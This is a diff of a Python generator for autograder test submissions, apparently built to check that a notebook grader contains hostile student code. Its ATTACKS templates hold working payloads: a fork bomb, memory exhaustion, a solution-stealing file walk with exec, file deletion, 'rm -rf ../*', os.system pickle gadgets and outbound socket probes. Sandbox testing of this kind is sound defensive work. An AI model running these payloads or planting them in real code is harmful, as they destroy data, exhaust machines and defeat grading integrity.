@@ -23,8 +23,9 @@ from pathlib import Path
 from celltoken.coursework import CourseworkError, assignment, grade, release
 
 FOLDER = assignment.ROOT / "_build" / "demo_class"
-# Short, so that what never ends does not take long; an honest notebook needs a quarter of it.
-LIMITS = {"cell": 45, "exercise": 90, "memory": 2 * 2**30}
+# Short, so that what never ends does not take long; an honest cell needs a third of it.
+LIMITS = {"cell": 20, "exercise": 40, "wall": 9, "memory": 2 * 2**30}
+MISTAKES = 10  # of each exercise; tests/checks has all
 MARK = "celltoken-was-here"
 
 WRONG = [
@@ -55,7 +56,8 @@ HABITS = [
 # What costs those who put it below one answer that exercise, and no other.
 TROUBLES = {
     "busy_function": "def {name}(*_):\n    while True: pass",
-    "busy_until_killed": "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
+    "busy_until_killed": "import signal\n"
+    "for each in (14, 27): signal.signal(each, signal.SIG_IGN)\n"
     "def {name}(*_):\n    while True: pass",
     "unlucky_crash": "import ctypes\ndef {name}(*_):\n    ctypes.string_at(0)",
     "unlucky_memory": "def {name}(*_):\n    held = []\n    while True: held.append(b'x' * 10**8)",
@@ -68,7 +70,7 @@ if "planted.zip" not in sys.path:
     sys.path.insert(0, "planted.zip")
 """
 
-# What is put into the first answer's cell; {names} is the list of all functions asked for.
+# What is put into the first answer's cell; `attack` fills in names and places.
 ATTACKS = {
     "redefines_checks": """
 import types, celltoken.checks
@@ -132,8 +134,9 @@ while True:
     "greedy": """
 def {first}(*a):
     held = []
-    while True: held.append(bytearray(10**8))
-x = bytearray(50 * 10**9)
+    while len(held) * 10**8 < {most}: held.append(bytearray(10**8))
+    return len(held) * 10**8
+x = bytearray({most})
 """,
     "greedy_family": """
 import os, time
@@ -141,37 +144,40 @@ for _ in range(8):
     if os.fork() == 0:
         held = []
         try:
-            while True: held.append(bytearray(b"x" * 10**8))
+            while len(held) * 8 * 10**8 < {most}: held.append(bytearray(b"x" * 10**8))
+            open(f"held_{{os.getpid()}}", "w").close()
         finally: time.sleep(600)
 """,
     "fork_bomb": """
 import os, time
 def {first}(*a):
-    while True:
+    for _ in range({generations}):
         try:
             if os.fork() == 0: os.setsid()
         except OSError: time.sleep(0.01)
-while True:
+for _ in range({generations}):
     try:
         if os.fork() == 0: os.setsid()
     except OSError: break
+open(f"forked_{{os.getpid()}}", "w").close()
 """,
     "looks_for_the_master": """
-import gc, glob, os, re, subprocess, sys, celltoken
-root = os.path.dirname(os.path.dirname(celltoken.__file__))
+import gc, json, os, re, sys
 texts = [str(value) for value in gc.get_objects() if isinstance(value, (dict, str))][:20000]
 frame = sys._getframe()
 while frame:
     texts.append(str(frame.f_locals)); frame = frame.f_back
-for top in (root, os.getcwd(), "/proc", "/", "/proc/1/root", "/proc/self/cwd/.."):
+for top in {tops}:
     for folder, _, files in os.walk(top):
         for file in files:
             if file.endswith((".ipynb", ".json", ".html")) or "master" in file:
                 try: texts.append(open(os.path.join(folder, file)).read())
                 except Exception: pass
 for text in texts:
-    for body in re.findall(r"def (?:{pattern})\\(.*?END SOLUTION", text, re.S):
-        try: exec(body.encode().decode("unicode_escape"), globals())
+    try: text = "\\n\\n\\n".join("".join(cell["source"]) for cell in json.loads(text)["cells"])
+    except Exception: pass
+    for body in re.findall(r"^def (?:{pattern})\\(.*?END SOLUTION", text, re.S | re.M):
+        try: exec(body, globals())
         except Exception: pass
 """,
     "forges_results": """
@@ -185,16 +191,14 @@ for descriptor in range(0, 64):
         except OSError: pass
 """,
     "writes_outside": """
-import os, pathlib, celltoken
-root = pathlib.Path(celltoken.__file__).parents[1]
-places = [root, root / "chapters" / "{chapter}", root / "celltoken", root / "data", root / "_build",
-          *map(pathlib.Path, ("/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/etc", "/usr/lib"))]
-for place in places:
-    try: (place / "{mark}").write_text("x")
+import os, pathlib
+root = pathlib.Path({root!r})
+for place in {places}:
+    try: pathlib.Path(place, "{mark}").write_text("x")
     except Exception: pass
-for file in (root / "chapters" / "{chapter}" / "exercises.ipynb", root / "celltoken" / "cli.py"):
-    for act in (file.unlink, lambda: file.write_text(""), lambda: file.rename("/tmp/{mark}"),
-                lambda: file.chmod(0o777), lambda: os.symlink(file, "link")):
+for file in (root / "chapters" / "{chapter}" / "exercises.ipynb", root / "celltoken/__init__.py"):
+    for act in (lambda: file.write_text(""), lambda: file.chmod(0o777), lambda: file.unlink(),
+                lambda: os.symlink(file, "link")):
         try: act()
         except Exception: pass
 os.system("rm -rf ../* " + str(root / "chapters"))
@@ -204,10 +208,10 @@ import os, numpy as np, pandas as pd
 class Equal(float):
     __eq__ = __le__ = __ge__ = lambda self, other: True
     __hash__ = float.__hash__
-    def __reduce__(self): return os.system, ("touch /tmp/{mark}",)
+    def __reduce__(self): return os.system, ("touch {places[0]}/{mark}",)
     def __array__(self, *a, **k): return np.array(0.0)
 class Names(list):
-    def __reduce__(self): return os.system, ("touch /tmp/{mark}",)
+    def __reduce__(self): return os.system, ("touch {places[0]}/{mark}",)
 nest = []
 for _ in range(10**5): nest = [nest]
 answers = [Equal(), np.array([Equal()], dtype=object), np.zeros(2 * 10**7), nest, 10**5000,
@@ -217,7 +221,7 @@ for name, answer in zip({names}, answers): globals()[name] = lambda *a, answer=a
 """,
     "calls_home": """
 import socket, subprocess
-for address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
+for address in {home}:
     for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
         try:
             line = socket.socket(type=kind); line.settimeout(2); line.connect(address)
@@ -225,6 +229,16 @@ for address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
         except OSError: pass
 """,
 }
+
+
+def attack(kind: str, chapter: str, names: list[str], **where) -> str:
+    """The source of an attack. ``where`` gives it less than the whole machine, for a control."""
+    whole = {"root": str(assignment.ROOT), "places": [str(each) for each in places()]}
+    whole |= {"tops": [whole["root"], ".", "/proc", "/", "/proc/1/root", "/proc/self/cwd/.."]}
+    whole |= {"home": [("1.1.1.1", 53), ("127.0.0.1", 22)], "most": 50 * 10**9}
+    about = {"names": names, "first": names[0], "pattern": "|".join(names), "mark": MARK}
+    about |= {"chapter": chapter, "generations": 10**9} | whole
+    return ATTACKS[kind].format(**about | where)
 
 
 def submissions(chapter: str, seed: int = 0) -> dict[str, str]:
@@ -244,7 +258,7 @@ def submissions(chapter: str, seed: int = 0) -> dict[str, str]:
     found = {"perfect": filled(solved), "empty": given}
     found["half"] = filled({name: solved[name] for name in names[::2]})
     mistaken = mistakes(chapter)
-    for number in range(max(map(len, mistaken.values()))):
+    for number in range(MISTAKES):
         wrong = {name: cases[number] for name, cases in mistaken.items() if number < len(cases)}
         found[f"mistakes_{number + 1:02}"] = filled(solved | wrong)
     wrong = {n: WRONG[i % len(WRONG)].format(name=n) for i, n in enumerate(names)}
@@ -256,11 +270,10 @@ def submissions(chapter: str, seed: int = 0) -> dict[str, str]:
     one = names[-1]  # no other answer builds on it
     for student, code in TROUBLES.items():
         found[student] = filled(solved | {one: f"{solved[one]}\n\n{code.format(name=one)}"})
-    about = {"names": names, "first": names[0], "pattern": "|".join(names), "mark": MARK}
-    for name, code in ATTACKS.items():
-        skeleton = _source(_cell(given, names[0])).split("\n\n\n")[0]
-        source = f"{skeleton}\n{code.format(chapter=chapter, **about)}"
-        found[f"hostile_{name}"] = filled({names[0]: source})
+    skeleton = _source(_cell(given, names[0])).split("\n\n\n")[0]
+    for kind in ATTACKS:
+        source = f"{skeleton}\n{attack(kind, chapter, names)}"
+        found[f"hostile_{kind}"] = filled({names[0]: source})
     found["hostile_edits_cells"] = _edited(given, names)
     found["hostile_deletes_cells"] = _deleted(given)
     found["hostile_copies_ids"] = _copied(given, names)
@@ -320,13 +333,17 @@ def fingerprint() -> str:
     return hashlib.sha256("\n".join(lines).encode()).hexdigest()
 
 
+def places() -> list[Path]:
+    """Where a submission must leave no file."""
+    root = assignment.ROOT
+    found = [Path(tempfile.gettempdir()), root, *(root / "chapters").iterdir()]
+    found += [root / part for part in ("celltoken", "data", "_build", "chapters")]
+    return found + [*map(Path, ("/", "/tmp", "/dev/shm", "/etc", "/root", "/var/tmp", "/usr/lib"))]
+
+
 def traces() -> list[Path]:
     """Files that a submission has left where it should not."""
-    root = assignment.ROOT
-    places = [root, *(root / part for part in ("celltoken", "data", "_build", "chapters"))]
-    places += [*(root / "chapters").iterdir(), Path(tempfile.gettempdir())]
-    places += map(Path, ("/", "/dev/shm", "/etc", "/root", "/var/tmp", "/usr/lib"))
-    return [place / MARK for place in places if (place / MARK).exists()]
+    return [place / MARK for place in places() if (place / MARK).exists()]
 
 
 def main() -> int:
